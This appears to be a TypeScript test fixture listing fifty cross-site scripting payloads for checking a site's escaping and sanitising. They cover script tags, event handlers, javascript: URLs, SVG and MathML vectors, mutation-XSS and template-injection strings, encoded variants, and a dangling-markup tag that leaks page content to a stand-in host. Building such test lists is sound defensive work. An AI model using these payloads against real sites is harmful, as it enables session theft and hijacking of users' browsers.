// Texts that become scripts, tags or attributes wherever a page forgets to escape, check or clean them: the usual ones, and
// those that got past other products' cleaning. What runs calls `xss()`; the others change the page.
// @ts-check

/** Nothing listens there, and browsers do not even try. */
const EVIL = "https://evil.localhost:1";

/** Fifty, of different kinds; none is longer than the shortest of the names may be. */
export const PAYLOADS = [
  // Tags.
  `<script>xss()</script>`,
  `"><script>xss()</script>`,
  `'><ScRiPt/x>xss()</sCrIpT>`,
  `<<script>xss()//<</script>`,
  `<scr<script>ipt>xss()</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.xss()</script>"></iframe>`,
  `<iframe src="javascript:parent.xss()"></iframe>`,
  `<object data="javascript:xss()"></object><embed src="javascript:xss()">`,
  `<template><script>xss()</script></template><body onload=xss()>`,
  // Attributes and handlers.
  `<img src=x onerror=xss()>`,
  `"><img/src/onerror=xss()>`,
  `" onfocus=xss() autofocus x="`,
  `' onfocus=xss() autofocus x='`,
  `x onmouseover=xss() onfocus=xss() autofocus y=`,
  `<input autofocus onfocus=xss()>`,
  `<details open ontoggle=xss()><summary>x</summary></details>`,
  `<video><source onerror=xss()></video>`,
  `<x tabindex=1 autofocus onfocus=xss()>x</x>`,
  `<button form=x formaction=javascript:xss()>x</button>`,
  // Addresses.
  `javascript:xss()`,
  `JaVaScRiPt://%0axss()//`,
  `data:text/html,<script>xss()</script>`,
  `<a href="javascript:xss()">x</a>`,
  `<a href="jav&#x09;ascript:xss()">x</a><a href=" &#106;avascript:xss()">x</a>`,
  `<base href="${EVIL}/"><meta http-equiv=refresh content="0;url=javascript:xss()">`,
  // Other languages inside of HTML.
  `<svg onload=xss()>`,
  `"><svg/onload=xss()><script>xss()</script></svg>`,
  `<svg><animate onbegin=xss() attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></svg>`,
  `<math href="javascript:xss()"><maction xlink:href="javascript:xss()">x</maction></math>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=xss()>x</b>`,
  `<link rel=stylesheet href="${EVIL}/a.css"><style>@import"javascript:xss()"</style>`,
  // What ends where the text stands.
  `</title></textarea></noscript><img src=x onerror=xss()>`,
  `</style></script><script>xss()</script>`,
  `--><script>xss()</script><!--`,
  `<!--><img src=x onerror=xss()>--!><img src=x onerror=xss()>`,
  `]]><script>xss()</script><![CDATA[`,
  `<img src="${EVIL}/?`,
  // Mutations: harmless until they are parsed once more.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>`,
  `<noscript><p title="</noscript><img src=x onerror=xss()>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=xss()>">`,
  `<a id=csrf name=csrf></a><form id=password name=forms><input name=action>`,
  // Our templates' own signs, and other templates'.
  `{{ "<script>xss()</script>"|safe }}{% raw %}<script>xss()</script>{% endraw %}`,
  `{{ 7*7 }}{% include "loginrocket/login.html" %}\${xss()}#{xss()}<%= xss() %>`,
  // Other spellings of the same signs.
  `&lt;script&gt;xss()&lt;/script&gt;&#60;img src=x onerror=xss()&#62;`,
  `\uff1cscript\uff1exss()\uff1c/script\uff1e\u2039img src=x onerror=xss()\u203a`,
  `\\u003cscript\\u003exss()\\x3c/script\\x3e+ADw-script+AD4-xss()+ADw-/script+AD4-`,
  `%3Cscript%3Exss()%3C/script%3E%253Cimg%2520src=x%2520onerror=xss()%253E`,
];
